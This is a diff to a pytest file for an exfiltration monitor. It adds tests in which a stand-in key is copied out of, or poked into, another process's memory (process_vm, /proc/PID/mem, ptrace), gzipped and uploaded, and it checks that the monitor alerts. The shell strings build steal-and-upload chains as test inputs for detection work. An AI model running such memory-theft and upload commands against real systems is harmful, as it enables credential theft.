@@ -1,8 +1,8 @@
 """Evasion classes of issue 12 that test_evasion.py does not replay: reading without read(2)
 (mmap, pread/preadv/readv, sendfile and splice to the uploader), a read budget flooded with
 decoys, an uploader that claims another identity (argv[0]) or takes its arguments from a file
-(curl -K, wget -i), a key and a connection opened before the monitor started, and a flow with no
-name at all. Each attack alerts with its sub-technique and leaks no line of the key; each twin
+(curl -K, wget -i), a key and a connection opened before the monitor started, a flow with no
+name at all, and bytes copied out of or into another process's memory. Each attack alerts with its sub-technique and leaks no line of the key; each twin
 stays silent."""
 
 import json
@@ -481,3 +481,123 @@ def test_report_to_an_ip_literal_is_silent(monitor, standin, fake_home, tmp_path
     monitor.stop()
     assert_silent([r for r in monitor.records()
                    if get(r, "destination.port") == HTTPS_PORT or str(tmp_path) in json.dumps(r)])
+
+
+# --- Class: another process's memory -----------------------------------------------------------
+# A process holds the key in memory (it read it; nothing else); an unrelated process of another
+# session copies the bytes out of that memory (process_vm_readv, a pread of /proc/PID/mem, ptrace
+# PEEKDATA) and stages them for the upload. Or the other way round: a process that read the key
+# writes it into an unrelated holder's memory (process_vm_writev, /proc/PID/mem, POKEDATA), and
+# the holder writes out what its memory now holds. No file, pipe or socket joins the two.
+
+MEM = paths.TOOLS_DIR / "mem_peek.py"
+MEM_METHODS = ["process_vm", "proc_mem", "ptrace"]
+
+
+def start_memory_holder(tmp_path, held, out=os.devnull):
+    """A holder of `held`'s bytes in memory, in its own session; its "pid address length"."""
+    ready = tmp_path / "held.ready"
+    holder = subprocess.Popen(["setsid", str(PY), str(MEM), "hold", str(held), str(ready)],
+                              stdout=open(out, "wb"), stderr=subprocess.PIPE)
+    for _ in range(400):
+        if ready.exists() or holder.poll() is not None:
+            break
+        subprocess.run(["sleep", "0.05"])
+    assert ready.exists(), f"the holder did not start: {holder.stderr.read().decode(errors='replace')}"
+    return holder, ready
+
+
+def memory_records(monitor, direction, peer_pid):
+    found = [r for r in monitor.records()
+             if is_action("object-io", {"exfilwatch.object.kind": "process_memory",
+                                        "exfilwatch.object.direction": direction})(r)
+             and get(r, "exfilwatch.object.process.pid") == peer_pid]
+    assert found, f"no process_memory {direction} of pid {peer_pid}"
+    assert all(get(r, "exfilwatch.object.id") == str(peer_pid) for r in found)
+    return found
+
+
+def steal_run(monitor, standin, fake_home, tmp_path, method, held, expect):
+    holder, ready = start_memory_holder(tmp_path, held)
+    stolen, stage = tmp_path / "stolen.bin", tmp_path / "stolen.gz"
+    try:
+        # Compressed, so that no fingerprint of the key is in what curl sends: only the data
+        # flow (memory, then a staging file) can tie the upload to the key.
+        shell = (f"{PY} {MEM} steal {method} {ready} > {stolen} && gzip -c {stolen} > {stage} && "
+                 + UPLOAD.format(stage))
+        if expect == "alert":
+            dataflow_attack(monitor, standin, fake_home, tmp_path, f"memory-{method}", shell)
+        else:
+            silent_run(monitor, standin, fake_home, tmp_path, f"memory-{method}-twin", shell)
+        assert stolen.read_bytes() == held.read_bytes()
+        found = memory_records(monitor, "read", holder.pid)
+        assert all(get(r, "process.session_leader.pid") != holder.pid for r in found)
+    finally:
+        holder.kill()
+        holder.wait()
+
+
+@pytest.mark.parametrize("method", MEM_METHODS)
+def test_key_copied_out_of_its_holders_memory(monitor, standin, fake_home, tmp_path, method):
+    key = key_of(fake_home)
+    steal_run(monitor, standin, fake_home, tmp_path, method, key, "alert")
+    assert_no_secret(monitor, key)
+
+
+@pytest.mark.parametrize("method", MEM_METHODS)
+def test_report_copied_out_of_its_holders_memory_is_silent(monitor, standin, fake_home, tmp_path, method):
+    steal_run(monitor, standin, fake_home, tmp_path, method, harmless_report(tmp_path), "silent")
+
+
+def poke_run(monitor, standin, fake_home, tmp_path, method, source, expect):
+    filler = tmp_path / "filler.txt"
+    filler.write_bytes(b"-" * os.stat(source).st_size)
+    out, stage = tmp_path / "dumped.bin", tmp_path / "dumped.gz"
+    holder, ready = start_memory_holder(tmp_path, filler, out)
+    try:
+        # The poker reads `source` and writes it into the holder, which then dumps its memory
+        # to a file of its own; the upload is of that file, compressed (no fingerprint in it).
+        shell = (f"{PY} {MEM} poke {method} {ready} {source} && "
+                 f"while [ $(wc -c < {out}) -lt {os.stat(source).st_size} ]; do sleep 0.05; done && "
+                 f"gzip -c {out} > {stage} && " + UPLOAD.format(stage))
+        if expect == "alert":
+            dataflow_attack(monitor, standin, fake_home, tmp_path, f"memory-poke-{method}", shell)
+        else:
+            silent_run(monitor, standin, fake_home, tmp_path, f"memory-poke-{method}-twin", shell)
+        assert out.read_bytes() == source.read_bytes()
+        memory_records(monitor, "write", holder.pid)
+    finally:
+        holder.kill()
+        holder.wait()
+
+
+@pytest.mark.parametrize("method", MEM_METHODS)
+def test_key_written_into_another_process_memory(monitor, standin, fake_home, tmp_path, method):
+    key = key_of(fake_home)
+    poke_run(monitor, standin, fake_home, tmp_path, method, key, "alert")
+    assert_no_secret(monitor, key)
+
+
+def test_report_written_into_another_process_memory_is_silent(monitor, standin, fake_home, tmp_path):
+    poke_run(monitor, standin, fake_home, tmp_path, "process_vm", harmless_report(tmp_path), "silent")
+
+
+def test_key_copied_out_of_memory_inside_a_pid_namespace(monitor, standin, fake_home, tmp_path):
+    # Holder and thief in a pid namespace of their own (a container's view): the pid the thief
+    # passes is the namespace's, and the record names the holder by its host pid.
+    key = key_of(fake_home)
+    ready, stolen, stage = tmp_path / "held.ready", tmp_path / "stolen.bin", tmp_path / "stolen.gz"
+    inside = (f"{PY} {MEM} hold {key} {ready} & while [ ! -s {ready} ]; do sleep 0.05; done; "
+              f"{PY} {MEM} steal process_vm {ready} > {stolen}; kill $!")
+    shell = (f"unshare --pid --fork --mount-proc sh -c '{inside}' && gzip -c {stolen} > {stage} && "
+             + UPLOAD.format(stage))
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "memory-pid-namespace", shell)
+    assert stolen.read_bytes() == key.read_bytes()
+    inner_pid = int(ready.read_text().split()[0])
+    found = [r for r in monitor.records()
+             if is_action("object-io", {"exfilwatch.object.kind": "process_memory"})(r)
+             and get(r, "exfilwatch.object.process.pid") is not None]
+    assert found, "no process_memory record naming the holder"
+    holder_pid = get(found[0], "exfilwatch.object.process.pid")
+    assert holder_pid != inner_pid, "the holder is named by its pid inside the namespace"
+    assert_no_secret(monitor, key)
